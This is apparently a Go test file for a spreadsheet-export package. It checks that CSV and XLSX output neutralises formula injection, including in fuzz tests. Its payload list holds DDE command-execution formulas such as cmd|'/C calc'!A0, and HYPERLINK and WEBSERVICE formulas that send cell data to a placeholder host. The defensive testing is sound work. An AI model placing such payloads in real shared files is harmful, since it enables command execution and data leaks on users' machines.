package list

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/csv"
	"io/fs"
	"slices"
	"strings"
	"testing"
	"unicode"

	"kebu/importers/table"
)

// payloads are texts that attack a spreadsheet: known formulas behind every
// sign that begins one, behind what a program might skip or strip.
func payloads() []string {
	bodies := []string{
		`1+1`, `SUM(A1:A9)`, `cmd|'/C calc'!A0`, `HYPERLINK("https://shop.example.test/?"&A1,"茶")`,
		`WEBSERVICE("https://shop.example.test/"&A2)`, `IMPORTXML(CONCAT("https://shop.example.test/",A1),"//a")`,
		`DDE("cmd";"/C calc";"x")`, `MSEXCEL|'\..\..\Windows\System32\cmd.exe'!''`, `2+5+cmd|' /C calc'!D2`,
		"A1\n=B1", "A1\r\n+B1", `"&A1&"`, `A1;=B1`, `A1,=B1`, "A1\t=B1", `-1+1`, `@SUM(1)`, `+86 1`, `rundll32|'x'!A`, ``,
	}
	signs := []string{"=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫"}
	before := []string{"", " ", "  \u3000", "\u00a0", "\t", "\r", "\n", "\r\n", "\x00", "\u200b", "\ufeff", "\u2028", "\x1b", "\xff"}
	var list []string
	for _, b := range before {
		for _, s := range signs {
			for _, body := range bodies {
				list = append(list, b+s+body)
			}
		}
		if strings.TrimSpace(b) != b || b == "\x00" { // begins a cell by itself
			list = append(list, b+"茶")
		}
	}
	return list
}

// startsFormula is the check of an outsider: the first sign that is not blank
// or invisible, full-width forms read as plain ones.
func startsFormula(cell string) bool {
	if cell != "" && strings.ContainsRune("\t\r\n\x00", rune(cell[0])) {
		return true
	}
	cell = strings.TrimLeftFunc(cell, func(r rune) bool {
		return r == '\ufffd' || unicode.In(r, unicode.Zs, unicode.Zl, unicode.Zp, unicode.Cc, unicode.Cf)
	})
	return strings.IndexAny(cell, "=+-@＝＋－＠﹦﹢﹣﹫") == 0
}

func TestNoFormulaInText(t *testing.T) {
	attacks := payloads()
	if len(attacks) < 300 {
		t.Fatalf("only %d payloads", len(attacks))
	}
	column := []Column{{Key: "note", Title: "=1+1", Kind: Prose}, {Key: "name", Title: "Name"}}
	var rows [][]Value
	for _, s := range attacks {
		rows = append(rows, []Value{TextValue(s), TextValue("x")})
	}
	data := write(t, CSV, column, rows, Options{})
	cells := columnOf(t, data)
	if startsFormula(cells[0]) {
		t.Errorf("title %q is a formula", cells[0])
	}
	for i, s := range attacks {
		got := cells[i+1]
		if startsFormula(got) {
			t.Errorf("%q is a formula", got)
		}
		// encoding/csv reads the CRLF inside a cell as LF.
		if kept := strings.TrimPrefix(got, "'"); kept != strings.ReplaceAll(s, "\r\n", "\n") {
			t.Errorf("%q became %q", s, got)
		}
	}
}

func TestNoFormulaInWorkbook(t *testing.T) {
	attacks := payloads()
	var rows [][]Value
	for _, s := range attacks {
		rows = append(rows, []Value{TextValue(s)})
	}
	data := write(t, XLSX, everyKind[:1], rows, Options{})
	f := open(t, data)
	got, err := f.GetRows("Kebu")
	if err != nil {
		t.Fatal(err)
	}
	for i, s := range attacks {
		if want := strings.ToValidUTF8(s, "\ufffd"); got[i+1][0] != want {
			t.Errorf("%q became %q", want, got[i+1][0])
		}
	}
	r, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	sheet, err := fs.ReadFile(r, "xl/worksheets/sheet1.xml")
	if err != nil || bytes.Contains(sheet, []byte("<f>")) {
		t.Errorf("the sheet holds a formula: %v", err)
	}
}

// columnOf reads the first column of a CSV file, without the mark.
func columnOf(t *testing.T, data []byte) []string {
	t.Helper()
	body, marked := bytes.CutPrefix(data, []byte("\ufeff"))
	if !marked {
		t.Error("no byte order mark")
	}
	records, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	cells := make([]string, len(records))
	for i, r := range records {
		cells[i] = r[0]
	}
	return cells
}

func TestGuardLeavesOrdinaryTextAlone(t *testing.T) {
	for _, s := range []string{
		"", "林青", "13812345678", "T-shirt", "a=b", "'Tis tea", "0", "0.5", "12.50", "茶 - 壶", "E5", "SW1A 1AA", "x@example.test", "*******5678", "3 元",
	} {
		if got := guard(s); got != s {
			t.Errorf("%q became %q", s, got)
		}
	}
}

func TestOurReaderTakesTheGuardsOff(t *testing.T) {
	values := []string{
		"+86 138 1234 5678", "+8613812345678", "+1 (555) 555-0100", "+49 ******17", "008613812345678",
		"260517-123456789012345", "2605171234567890123", "123456789012", "08540", "12E10", "3-4", "2026/11", "010-12345678",
		"茶", "a;b,\"c\"", "line\nbreak",
	}
	var rows [][]Value
	for _, s := range values {
		rows = append(rows, []Value{TextValue(s), TextValue("x")})
	}
	data := write(t, CSV, everyKind[:2], rows, Options{})
	book, err := table.Open(context.Background(), bytes.NewReader(data), int64(len(data)), table.Options{})
	if err != nil {
		t.Fatal(err)
	}
	if book.Encoding() != "utf-8-bom" || book.Delimiter() != ',' {
		t.Errorf("read as %s with %q", book.Encoding(), book.Delimiter())
	}
	var got []string
	for row, err := range book.Rows(context.Background(), 0) {
		if err != nil {
			t.Fatal(err)
		}
		got = append(got, row.Cells[0].Text)
	}
	if !slices.Equal(got[1:], values) {
		t.Errorf("got %q", got[1:])
	}
	// The same from a workbook.
	cells, err := open(t, write(t, XLSX, everyKind[:2], rows, Options{})).GetCols("Kebu")
	if err != nil || !slices.Equal(cells[0][1:], values) {
		t.Errorf("got %q, %v", cells[0], err)
	}
}

func FuzzGuard(f *testing.F) {
	for _, s := range payloads()[:300] {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		g := guard(s)
		if startsFormula(g) {
			t.Errorf("%q is a formula", g)
		}
		if g != s && g != "'"+s && g != s+"\t" {
			t.Errorf("%q became %q", s, g)
		}
	})
}
